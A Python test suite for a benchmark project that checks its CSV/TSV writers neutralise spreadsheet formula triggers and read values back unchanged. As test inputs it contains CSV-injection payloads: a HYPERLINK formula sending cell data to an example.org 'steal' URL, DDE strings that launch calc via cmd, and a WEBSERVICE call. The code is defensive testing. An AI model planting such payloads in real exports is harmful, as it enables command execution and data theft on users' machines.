"""Text into sheets (docs/security.md): every CSV/TSV meant for a person neutralises formula
triggers (OWASP, "CSV Injection": a cell starting with =, +, -, @, a tab or a carriage
return) and reads them back unchanged.

Properties on hypothesis-generated text: no cell of a written sheet starts with a trigger
(a plain number such as "-0.5" is no formula and stays as it is), and `read_table` gives
back exactly the text written. The writers of the sheets people open (Italian review sheet,
MHER's error listing, valence's sheets, Chronologic's ledgers) are checked with a hostile
model rationale, gloss or answer, and the source tree is checked for a CSV writer that
bypasses `sheet_text`.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from histbench.core.sheets import FORMULA_TRIGGERS, neutralise, read_table, restore, sheet_text

ROOT = Path(__file__).resolve().parents[2]
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
HOSTILE = ['=HYPERLINK("http://example.org/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
           "\t=1+1", "\r=1+1", "'=1+1", "''", "'", "=", "-", "-1", "+0.5", "-.5e3", "'-1", "\ufeff=1"]

cell_text = st.one_of(st.sampled_from(HOSTILE), st.text(alphabet=st.characters(blacklist_characters="\x00",
                                                                                 blacklist_categories=("Cs",)),
                                                        max_size=15))


def _cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in FORMULA_TRIGGERS or PLAIN_NUMBER.fullmatch(cell), cell


@settings(max_examples=400, deadline=None)
@given(cell_text)
def test_neutralise_then_restore_is_the_identity(text):
    written = neutralise(text)
    assert restore(written) == text
    assert not written or written[0] not in FORMULA_TRIGGERS or PLAIN_NUMBER.fullmatch(written)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(cell_text, cell_text), min_size=1, max_size=6), st.sampled_from(["csv", "tsv"]))
def test_a_written_sheet_has_no_formula_and_reads_back_unchanged(tmp_path_factory, rows, suffix):
    path = tmp_path_factory.mktemp("sheet") / f"sheet.{suffix}"
    delimiter = "\t" if suffix == "tsv" else ","
    text = sheet_text(["key", "value"], [{"key": f"k{i}", "value": v} for i, (_, v) in enumerate(rows)]
                      + [[f"s{i}", v] for i, (v, _) in enumerate(rows)], delimiter=delimiter)
    _assert_no_formula(_cells(text, delimiter))
    path.write_text(text, encoding="utf-8", newline="")
    _, read = read_table(path)
    expected = [v for _, v in rows] + [v for v, _ in rows]
    # read_table gives None for a blank cell (a sheet's empty cell), the text otherwise
    assert [r.values["value"] for r in read] == [v if v.strip() else None for v in expected]


def test_a_spreadsheet_users_own_apostrophe_is_kept():
    """Only an apostrophe before a trigger (or another apostrophe) is the writer's: "'tis" is text."""
    assert restore("'tis") == "'tis" and neutralise("'tis") == "'tis"


# ----------------------------------------------------------------------------- the writers


def test_the_italian_review_sheet_neutralises_glosses_and_reads_them_back(tmp_path):
    from histbench.builders.italian.review import COLUMNS, write_sheet

    row = {c: "" for c in COLUMNS}
    row.update({"item_key": "ch1:1-2", "item_id": "1", "target_phrase": "=cmd|' /C calc'!A0", "role": "gold",
                "context": "@SUM(A1:A9)", "explanations": "-2+3 glossa", "candidate": "+senso", "source": "dictionary"})
    for suffix in ("csv", "tsv"):
        out = tmp_path / f"review.{suffix}"
        write_sheet([row], out)
        _assert_no_formula(_cells(out.read_text(encoding="utf-8"), "\t" if suffix == "tsv" else ","))
        _, rows = read_table(out)
        for column in ("target_phrase", "context", "explanations", "candidate"):
            assert rows[0].values[column] == row[column]


def test_mher_error_listing_neutralises_rationales_and_reads_codes_back(tmp_path):
    from histbench.eval.mher.coding import COLUMNS, _csv_text, _rows

    rationale = '=HYPERLINK("http://example.org/steal?d="&A1,"details")'
    row = {c: "" for c in COLUMNS}
    row.update({"model": "@model", "pair_id": "p1", "gold": "different", "source_grounded_action": "same",
                "source_grounded_rationale": rationale, "context_only_rationale": "-1+1", "category": ""})
    path = tmp_path / "errors.csv"
    path.write_text(_csv_text([row]), encoding="utf-8", newline="")
    _assert_no_formula(_cells(path.read_text(encoding="utf-8")))
    [(line, read)] = _rows(path)
    assert read["source_grounded_rationale"] == rationale and read["model"] == "@model"
    assert read["context_only_rationale"] == "-1+1"


def test_valence_conflicts_and_score_sheets_neutralise_sentences(tmp_path):
    from histbench.eval.valence.reporting import write_csv
    from histbench.eval.valence.vocabulary import write_conflicts

    conflicts = [{"sentence_id": "s1", "token": "+word", "values": {"@ann": -0.5, "=b": "skip"}}]
    write_conflicts(tmp_path / "conflicts.csv", conflicts, {"s1": "=1+1 a sentence"})
    rows = _cells((tmp_path / "conflicts.csv").read_text(encoding="utf-8"))
    _assert_no_formula(rows)
    assert rows[1][4] == "-0.5"                     # a number stays a number
    write_csv(tmp_path / "scores.csv", [{"model": "=evil", "beta": -0.25, "word": "\tx"}])
    _assert_no_formula(_cells((tmp_path / "scores.csv").read_text(encoding="utf-8")))


def test_chronologic_ledgers_neutralise_model_answers(tmp_path):
    from histbench.eval.chronologic.anchors import _write_csv

    _write_csv(tmp_path / "ledger.csv", [{"model": "-label", "answer": "=WEBSERVICE(\"http://x\")", "score": -1.5}])
    rows = _cells((tmp_path / "ledger.csv").read_text(encoding="utf-8"))
    _assert_no_formula(rows)
    assert rows[1] == ["'-label", "'=WEBSERVICE(\"http://x\")", "-1.5"]


WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(")


@pytest.mark.parametrize("folder", ["histbench", "builders", "eval"])
def test_every_sheet_is_written_through_sheet_text(folder):
    """No CSV writer outside histbench/core/sheets.py: a new sheet goes through `sheet_text`."""
    offenders = [str(p.relative_to(ROOT)) for p in (ROOT / folder).rglob("*.py")
                 if p != ROOT / "histbench" / "core" / "sheets.py" and WRITERS.search(p.read_text(encoding="utf-8"))]
    assert offenders == []
